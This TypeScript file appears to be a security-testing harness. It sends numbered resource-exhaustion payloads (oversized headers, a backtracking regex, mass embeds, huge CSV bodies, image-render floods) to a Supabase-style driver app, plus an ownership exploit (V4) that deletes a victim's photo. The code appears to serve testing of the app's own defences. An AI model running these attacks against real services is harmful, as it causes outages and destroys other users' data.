import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { register } from './account.ts';
import { statusOf, type Attack } from './attack.ts';

const routes = '/rest/v1/time_based_routes';
const million = 1_000_000;

/** A JPEG that does not compress. */
function noise(pixels: number): Promise<Buffer> {
  return sharp(randomBytes(pixels * pixels * 3), { raw: { width: pixels, height: pixels, channels: 3 } })
    .jpeg()
    .toBuffer();
}

/** Attacks on `rest/v1`, `storage/v1` and the functions. */
export const attacksOnData: readonly Attack[] = [
  {
    name: 'V1 a million slashes in a storage listing',
    perSecond: 0.5,
    begin: async (network) => {
      const body = JSON.stringify({ prefix: `${'/'.repeat(million)}x` });
      return async () => statusOf(await network.post('/storage/v1/object/list/imagenes', body));
    },
  },
  {
    name: 'V2 240 embeds, each with another alias',
    perSecond: 15,
    begin: async (network) => async (attempt) => {
      const embeds = Array.from({ length: 240 }, (_, index) => `a${attempt}x${index}:drivers(id)`);
      return statusOf(await network.send(`${routes}?select=${embeds.join(',')}`));
    },
  },
  {
    name: 'V6 a regular expression with backreferences',
    perSecond: 4,
    begin: async (network) => {
      const pattern = encodeURIComponent('(.{8,}).*(.{8,}).*(.{8,}).*\\1.*\\2.*\\3');
      return async () => statusOf(await network.send(`${routes}?description=match.${pattern}`));
    },
  },
  {
    name: 'V7 an Accept header of 14,500 commas',
    perSecond: 4,
    begin: async (network) => {
      const headers = { accept: ','.repeat(14_500) };
      return async () => statusOf(await network.send(routes, { headers }));
    },
  },
  {
    name: 'V7 a query key of 15,000 letters',
    perSecond: 4,
    begin: async (network) => {
      const query = `${'a'.repeat(15_000)}.=eq.1`;
      return async () => statusOf(await network.send(`${routes}?${query}`));
    },
  },
  {
    name: 'V23.9 a megabyte of CSV',
    perSecond: 0.3,
    begin: async (network) => {
      const { authorization } = await register(network);
      const headers = { ...authorization, 'content-type': 'text/csv' };
      const body = `driver_id,rating\n${'"a""b",5\n'.repeat(115_000)}`;
      return async () => statusOf(await network.post('/rest/v1/reviews', body, headers));
    },
  },
  {
    name: 'V21 photos of one account',
    perSecond: 1,
    begin: async (network) => {
      const { authorization, userId } = await register(network);
      const photo = new Uint8Array(await noise(200));
      return async (attempt) =>
        statusOf(
          await network.send(`/storage/v1/object/imagenes/profile-photos/${userId}-${attempt}.jpg`, {
            method: 'POST',
            headers: { ...authorization, 'content-type': 'image/jpeg' },
            body: photo,
          }),
        );
    },
  },
];

/**
 * Requests a photo in one size after another: the server must render each.
 * @param photoUrl that of a driver
 */
export function renditionsOf(photoUrl: string): Attack {
  const path = new URL(photoUrl).pathname.replace('/object/', '/render/image/');
  return {
    name: 'V21 a photo in every size',
    perSecond: 10,
    begin: async (network) => async (attempt) =>
      statusOf(await network.send(`${path}?width=${1 + (attempt % 2000)}&height=${1 + (attempt % 1999)}`)),
  };
}

/**
 * V4: an account names the photo of a driver as its own and deletes itself.
 * @param photoUrl the victim's
 */
export function deletePhotoOf(photoUrl: string): Attack {
  return {
    name: 'V4 deleting a photo by naming it as one’s own',
    perSecond: 0.05,
    begin: async (network) => async () => {
      const { authorization, password, userId } = await register(network);
      const code = userId.slice(0, 8).toUpperCase();
      const row = { name: 'Mallory', license_plate: code, driver_code: code, photo_url: photoUrl };
      const inserted = await statusOf(await network.post('/rest/v1/drivers', row, authorization));
      const deleted = await network.send('/functions/v1/my-data', {
        method: 'DELETE',
        headers: { ...authorization, 'content-type': 'application/json' },
        body: JSON.stringify({ password }),
      });
      return `${inserted}, then ${await statusOf(deleted)}`;
    },
  };
}
